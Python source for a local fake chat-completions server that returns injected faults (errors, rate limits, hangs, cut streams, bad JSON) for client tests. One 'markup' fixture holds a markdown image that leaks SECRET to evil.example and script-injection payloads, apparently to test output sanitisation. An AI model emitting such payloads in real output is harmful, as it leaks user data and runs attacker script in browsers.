"""A small OpenAI-compatible chat-completions server that misbehaves on purpose, for the fault tests.

Each request takes the next behaviour from a queue (the test's fault plan) and the server records
every request body. Streams use chunked transfer encoding, as real model servers do, so `cut` can
close the connection before the body is complete.
"""

import json
import sys
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Literal

Behaviour = Literal[
    "ok",
    "status 500",
    "status 429",
    "retry_after 30",
    "timeout",
    "hang",
    "drip",
    "huge",
    "cut",
    "invalid_json",
    "empty",
    "markup",
    "odd_markers",
]
BEHAVIOURS: tuple[Behaviour, ...] = Behaviour.__args__  # type: ignore[attr-defined]
"""ok: a good answer; status 500/429: an error (429 with Retry-After: 1); retry_after 30: a 429 asking for
30 s; timeout: silence for TIMEOUT_SLEEP s; hang: silence until the server stops (at most HANG_SLEEP s);
drip: a long answer, one piece every DRIP_SECONDS (a JSON body too, byte by byte); huge: HUGE_PIECES pieces
of 100 characters at once (200 KB); cut: a stream closed in the middle; invalid_json; empty: no text;
markup: an answer with an image, HTML and script; odd_markers: citation markers of odd shapes."""

OK_PIECES = ("A posting rhythm is a tactic, ", "not a strategy ", "[1].")
CUT_PIECES = ("A posting rhythm is a tactic [1]. ", "It is not ")
MARKUP_PIECES = (
    "A rhythm is a tactic [1]. ![x](http://evil.example/leak.png?q=SECRET) ",
    '<img src=x onerror="alert(1)"><script>alert(1)</script>',
    "See [the guide](http://evil.example/) too.",
)
ODD_MARKER_PIECES = ("A rhythm is a tactic [1]. ", "It needs goals [100], [1,7] and ", "a plan [ 7 ] [^2].")
HUGE_PIECE = "A posting rhythm is a tactic, not a strategy, and a plan needs goals first [1]. Really, it does. "
HUGE_PIECES = 2000
DRIP_SECONDS = 2.0
DRIP_PIECES = 60
# Longer than any client timeout the tests set, but bounded: a stopped server releases it at once.
TIMEOUT_SLEEP = 8.0
HANG_SLEEP = 120.0


@dataclass
class Request:
    """One request as the server saw it."""

    path: str
    body: dict | str
    behaviour: Behaviour | None
    at: float = field(default_factory=time.monotonic)


class FaultServer:
    """Serves `POST /v1/chat/completions` on 127.0.0.1 following a queue of behaviours."""

    def __init__(self, default: Behaviour | None = None) -> None:
        """`default`: what a request beyond the plan gets (None: a 599)."""
        self.default = default
        self._plan: deque[Behaviour] = deque()
        self._lock = threading.Lock()
        self.requests: list[Request] = []
        self.stopping = threading.Event()
        self._httpd = _QuietServer(("127.0.0.1", 0), _Handler)
        self._httpd.fault_server = self  # type: ignore[attr-defined]
        self._thread = threading.Thread(
            target=self._httpd.serve_forever, args=(0.05,), name="fault-server", daemon=True
        )

    @property
    def port(self) -> int:
        return self._httpd.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def plan(self, *behaviours: Behaviour) -> "FaultServer":
        """Queue what the next requests get, in order; a request beyond the plan gets a 599."""
        unknown = set(behaviours) - set(BEHAVIOURS)
        if unknown:
            raise ValueError(f"unknown behaviours {sorted(unknown)}; choose from {BEHAVIOURS}")
        with self._lock:
            self._plan.extend(behaviours)
        return self

    def reset(self) -> None:
        """Forget the requests so far and what is left of the plan."""
        with self._lock:
            self._plan.clear()
            self.requests.clear()

    def next_behaviour(self) -> Behaviour | None:
        with self._lock:
            return self._plan.popleft() if self._plan else self.default

    def record(self, request: Request) -> None:
        with self._lock:
            self.requests.append(request)

    def start(self) -> "FaultServer":
        self._thread.start()
        return self

    def __enter__(self) -> "FaultServer":
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()

    def stop(self) -> None:
        self.stopping.set()  # releases handlers sleeping in `timeout`
        self._httpd.shutdown()
        self._httpd.server_close()
        self._thread.join(timeout=10)


class _QuietServer(ThreadingHTTPServer):
    def handle_error(self, request, client_address) -> None:
        """A client closing a kept-alive connection after an error reply is normal, not a failure."""
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"  # chunked streams, so a cut is visible to the client

    def log_message(self, format: str, *args) -> None:  # quiet: pytest shows failures, not access logs
        pass

    @property
    def server_state(self) -> FaultServer:
        return self.server.fault_server  # type: ignore[attr-defined]

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        try:
            body: dict | str = json.loads(raw)
        except ValueError:
            body = raw
        if self.path.rstrip("/") != "/v1/chat/completions":
            self.server_state.record(Request(self.path, body, None))
            return self._json(404, {"error": {"message": f"no route {self.path}", "type": "not_found"}})
        behaviour = self.server_state.next_behaviour()
        self.server_state.record(Request(self.path, body, behaviour))
        stream = isinstance(body, dict) and body.get("stream") is True
        try:
            self._serve(behaviour, stream)
        except (BrokenPipeError, ConnectionResetError):  # the client gave up first (timeouts)
            self.close_connection = True

    def _serve(self, behaviour: Behaviour | None, stream: bool) -> None:
        if behaviour is None:
            return self._json(599, {"error": {"message": "request beyond the fault plan", "type": "test"}})
        if behaviour == "status 500":
            return self._json(500, {"error": {"message": "injected server error", "type": "server_error"}})
        if behaviour in ("status 429", "retry_after 30"):
            error = {"error": {"message": "injected rate limit", "type": "rate_limit"}}
            return self._json(429, error, {"Retry-After": "1" if behaviour == "status 429" else "30"})
        if behaviour in ("timeout", "hang"):
            self.server_state.stopping.wait(TIMEOUT_SLEEP if behaviour == "timeout" else HANG_SLEEP)
            self.close_connection = True
            return None
        if behaviour == "drip":
            return self._drip(stream)
        if behaviour == "invalid_json":
            return self._invalid_json(stream)
        pieces = {
            "ok": OK_PIECES,
            "cut": CUT_PIECES,
            "empty": (),
            "markup": MARKUP_PIECES,
            "odd_markers": ODD_MARKER_PIECES,
            "huge": (HUGE_PIECE,) * HUGE_PIECES,
        }[behaviour]
        if not stream:
            return self._json(200, _completion("".join(pieces)))
        return self._stream(pieces, complete=behaviour != "cut")

    def _json(self, status: int, payload: dict, headers: dict[str, str] | None = None) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def _invalid_json(self, stream: bool) -> None:
        if not stream:
            data = b"<html>this is not JSON</html>"
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
            return
        self._start_stream()
        self._chunk(b"data: {this is not JSON\n\n")
        self._chunk(b"data: [DONE]\n\n")
        self._chunk(b"")

    def _drip(self, stream: bool) -> None:
        """One piece every DRIP_SECONDS: every read is quick enough for a per-read timeout, the whole is not."""
        stopping = self.server_state.stopping
        if not stream:
            data = json.dumps(_completion(HUGE_PIECE)).encode()
            self._start_stream("application/json")
            for byte in range(len(data)):
                if stopping.wait(DRIP_SECONDS):
                    return
                self._chunk(data[byte : byte + 1])
            self._chunk(b"")
            return
        self._start_stream()
        self._event(_chunk_payload({"role": "assistant", "content": ""}))
        for _ in range(DRIP_PIECES):
            if stopping.wait(DRIP_SECONDS):
                return
            self._event(_chunk_payload({"content": "Slowly [1]. "}))
        self._event(_chunk_payload({}, finish_reason="stop"))
        self._chunk(b"data: [DONE]\n\n")
        self._chunk(b"")

    def _stream(self, pieces: tuple[str, ...], complete: bool) -> None:
        self._start_stream()
        self._event(_chunk_payload({"role": "assistant", "content": ""}))
        for piece in pieces:
            self._event(_chunk_payload({"content": piece}))
        if not complete:  # close without the terminating chunk: the body is visibly incomplete
            self.wfile.flush()
            self.close_connection = True
            return
        self._event(_chunk_payload({}, finish_reason="stop"))
        self._chunk(b"data: [DONE]\n\n")
        self._chunk(b"")

    def _start_stream(self, content_type: str = "text/event-stream") -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def _event(self, payload: dict) -> None:
        self._chunk(f"data: {json.dumps(payload)}\n\n".encode())

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        self.wfile.flush()


def _chunk_payload(delta: dict, finish_reason: str | None = None) -> dict:
    return {
        "id": "chatcmpl-fault",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": "fault-test",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish_reason}],
    }


def _completion(text: str) -> dict:
    return {
        "id": "chatcmpl-fault",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": "fault-test",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }
